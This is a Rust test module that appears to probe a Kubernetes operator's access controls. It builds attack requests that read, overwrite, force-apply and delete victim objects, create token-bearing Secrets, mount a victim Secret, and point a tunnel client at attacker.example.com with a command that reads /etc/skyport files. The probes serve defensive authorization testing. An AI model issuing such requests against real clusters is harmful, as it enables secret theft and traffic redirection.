//! The attacks of every verb but `patch` (see `patches`): reads, creates over a victim's name
//! and creates of objects that would read or redirect it, updates (PUT), deletes and
//! collection deletes, each also as a dry run where the server accepts one.

use hyper::Method;
use serde_json::{Value, json};

use super::victims::{VICTIM_LABEL, Victim, claim, object, status_overwrite};
use super::wire::{APPLY_PATCH, Call, JSON, collection};

/// One attack: what it is, the request, and whether it is a write (which must not be
/// admitted) to a status subresource (which a residue may admit).
#[derive(Debug, Clone)]
pub struct Attempt {
    pub what: String,
    pub call: Call,
    pub write: bool,
    pub status: bool,
}

pub const DRY_RUN: &str = "dryRun=All";

impl Attempt {
    pub fn read(what: impl Into<String>, call: Call) -> Attempt {
        Attempt { what: what.into(), call, write: false, status: false }
    }

    pub fn write(what: impl Into<String>, call: Call) -> Attempt {
        let status = call.uri.split('?').next().is_some_and(|p| p.ends_with("/status"));
        Attempt { what: what.into(), call, write: true, status }
    }

    /// This attempt and the same as a dry run.
    pub fn and_dry_run(self) -> [Attempt; 2] {
        let dry = Attempt {
            what: format!("{} (dry run)", self.what),
            call: self.call.clone().query(DRY_RUN),
            ..self.clone()
        };
        [dry, self]
    }
}

/// Reads of the victim: by name, listed and watched in its namespace and in all namespaces, and
/// its status.
pub fn reads(v: &Victim) -> Vec<Attempt> {
    let k = v.kind;
    let mut list = vec![
        Attempt::read("get", Call::new(Method::GET, v.path(None))),
        Attempt::read("list", Call::new(Method::GET, v.collection())),
        Attempt::read("watch", Call::new(Method::GET, v.collection()).query("watch=1&timeoutSeconds=1")),
    ];
    if k.namespaced {
        let everywhere = collection(k.group, k.version, k.resource, None);
        list.push(Attempt::read("list in all namespaces", Call::new(Method::GET, &everywhere)));
        list.push(Attempt::read(
            "watch in all namespaces",
            Call::new(Method::GET, everywhere).query("watch=1&timeoutSeconds=1"),
        ));
    }
    if k.status {
        list.push(Attempt::read("get status", Call::new(Method::GET, v.path(Some("status")))));
    }
    list
}

/// The attacker's version of the whole object: its own values, the victim's name.
fn replacement(v: &Victim) -> Value {
    let mut body = object(v.kind, v.namespace.as_deref(), &v.name, "attacker");
    if let (Some(labels), Value::Object(claimed)) = (body["metadata"]["labels"].as_object_mut(), claim(v)) {
        labels.extend(claimed);
    }
    body
}

/// Creates over the victim's name, updates (PUT) of it and its status, and deletes.
pub fn writes(v: &Victim) -> Vec<Attempt> {
    let mut list = Vec::new();
    let create = Call::new(Method::POST, v.collection()).with(JSON, replacement(v));
    list.extend(Attempt::write("create over its name", create).and_dry_run());
    let update = Call::new(Method::PUT, v.path(None)).with(JSON, replacement(v));
    list.extend(Attempt::write("update (PUT) with the attacker's content", update).and_dry_run());
    if v.kind.status {
        let mut body = replacement(v);
        body["status"] = status_overwrite(v.kind)["status"].clone();
        let update = Call::new(Method::PUT, v.path(Some("status"))).with(JSON, body);
        list.extend(Attempt::write("update (PUT) of its status", update).and_dry_run());
    }
    let apply = Call::new(Method::PATCH, v.path(None))
        .with(APPLY_PATCH, replacement(v))
        .query("fieldManager=attacker&force=true");
    list.extend(Attempt::write("server-side apply, forced", apply).and_dry_run());
    let delete = Call::new(Method::DELETE, v.path(None));
    list.extend(Attempt::write("delete", delete).and_dry_run());
    let collection =
        Call::new(Method::DELETE, v.collection()).query(&format!("labelSelector={VICTIM_LABEL}%3D{}", v.name));
    list.extend(Attempt::write("delete the collection it is in", collection).and_dry_run());
    list
}

/// Objects whose creation would read or redirect `v` (created in its namespace): a Secret the
/// token controller fills with a ServiceAccount token, a Deployment that mounts the victim
/// Secret, a tunnel client that runs the attacker's command. `owner` is a Queue of that
/// namespace (skyport's own objects there are Queue-owned), `client` the tunnel client skyport
/// would write in the tunnel clients' namespace (for a victim Deployment there).
pub fn hostile_creates(v: &Victim, owner: &Value, client: Option<&Value>) -> Vec<Attempt> {
    let ns = v.namespace.as_deref().unwrap_or_default();
    let managed = json!({"app.kubernetes.io/managed-by": "skyport"});
    let mut list = Vec::new();
    let post = |resource: &str, group: &str, body: Value| {
        let version = "v1";
        Call::new(Method::POST, collection(group, version, resource, Some(ns))).with(JSON, body)
    };
    if v.kind.resource == "secrets" {
        let token = json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
            "metadata": {"name": "attacks-token", "labels": managed, "ownerReferences": [owner],
                         "annotations": {"kubernetes.io/service-account.name": "default"}}});
        list.extend(
            Attempt::write("create a service-account-token Secret beside it", post("secrets", "", token)).and_dry_run(),
        );
        if let Some(client) = client {
            let mut reader = client.clone();
            reader["metadata"]["name"] = json!("attacks-reader-client");
            reader["spec"]["template"]["spec"]["volumes"][0]["secret"]["secretName"] = json!(v.name);
            let call = post("deployments", "apps", reader);
            list.extend(Attempt::write("create a tunnel client that mounts it", call).and_dry_run());
        }
    }
    if v.kind.resource == "deployments"
        && let Some(client) = client
    {
        let mut redirect = client.clone();
        let args = json!(["tunnel", "client", "--config", "/dev/stdin", "--server", "attacker.example.com:2333"]);
        redirect["spec"]["template"]["spec"]["containers"][0]["args"] = args;
        let call = post("deployments", "apps", redirect.clone());
        list.extend(Attempt::write("create a tunnel client with the attacker's args", call).and_dry_run());
        redirect["spec"]["template"]["spec"]["containers"][0]["command"] =
            json!(["/bin/sh", "-c", "cat /etc/skyport/*"]);
        let call = post("deployments", "apps", redirect);
        list.extend(Attempt::write("create a tunnel client with the attacker's command", call).and_dry_run());
    }
    list
}
